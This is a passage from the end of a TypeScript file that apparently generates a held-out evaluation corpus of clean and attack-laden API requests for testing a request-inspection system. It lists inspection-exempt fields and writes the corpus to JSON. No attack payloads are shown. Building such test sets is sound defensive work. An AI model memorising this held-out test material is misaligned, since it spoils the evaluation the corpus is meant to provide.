    0,
  );
  familyAttacks('xss', GENERIC, GENERIC_TECHS, 33, 1);
}

/** HTML and source-code fields an operator would declare for these APIs (exempt from content inspection). */
export const HELDOUT18_EXCLUDE_FIELDS: string[] = [
  'body.template.body_html',
  'body.content_html',
  'body.list.description_html',
  'body.body_html',
  'body.lesson.body_html',
  'body.writeup.content_md',
  'body.challenge.description_md',
  'body.submission.code',
  'body.script.source',
  'body.cell.source',
  'body.sql',
  'body.report.sql',
  'body.expression',
  'body.sas',
  'body.match.pattern',
];

mapsDomain();
hotelDomain();
agriDomain();
trialsDomain();
libraryDomain();
moderationDomain();
mdmDomain();
ctfDomain();
buildAttacks();

/** Held-out corpus 18: clean API traffic of eight domains and attacks hidden in requests to the same APIs. */
export const heldout18: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

if (process.argv[1] !== undefined && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout18.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout18.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  const byKind: Record<string, number> = {};
  for (const r of clean) byKind[r.kind] = (byKind[r.kind] ?? 0) + 1;
  const byFamily: Record<string, number> = {};
  for (const r of attacks) byFamily[r.family ?? '?'] = (byFamily[r.family ?? '?'] ?? 0) + 1;
  console.log(`clean: ${clean.length}`, byKind);
  console.log(`attacks: ${attacks.length}`, byFamily);
}
